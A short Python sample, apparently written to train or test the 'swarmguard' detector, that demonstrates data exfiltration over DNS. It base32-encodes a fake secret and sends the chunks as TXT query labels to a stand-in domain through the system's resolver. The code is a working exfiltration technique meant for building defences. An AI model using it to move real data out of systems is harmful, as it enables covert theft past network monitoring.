#!/usr/bin/env python3
"""Sample: data exfiltration through DNS queries (harmless, written for swarmguard).

It reads the nameserver from ``/etc/resolv.conf``, base32-encodes a fake secret and sends it as
labels of TXT queries: ``<seq>-<chunk>.t.exfil-dns.example``.
"""

# swarmguard-label: Infiltration

from __future__ import annotations

import base64
import random
import socket
import struct

DOMAIN = "t.exfil-dns.example"
SECRET = b"user=alice;card=4111111111111111;token=not-a-real-token-just-a-test"


def nameserver() -> str:
    """The first nameserver of /etc/resolv.conf."""
    with open("/etc/resolv.conf", encoding="ascii") as fh:
        for line in fh:
            if line.startswith("nameserver"):
                return line.split()[1]
    return "127.0.0.1"


def query(name: str, qtype: int = 16) -> bytes:
    """A DNS query for ``name``."""
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    header = struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
    return header + labels + b"\0" + struct.pack("!HH", qtype, 1)


def main() -> None:
    """Send the secret in 20-character chunks, one query each."""
    encoded = base64.b32encode(SECRET).decode().rstrip("=").lower()
    server = nameserver()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2)
        for seq in range(0, len(encoded), 20):
            sock.sendto(query(f"{seq // 20}-{encoded[seq : seq + 20]}.{DOMAIN}"), (server, 53))
            sock.recv(512)


if __name__ == "__main__":
    main()
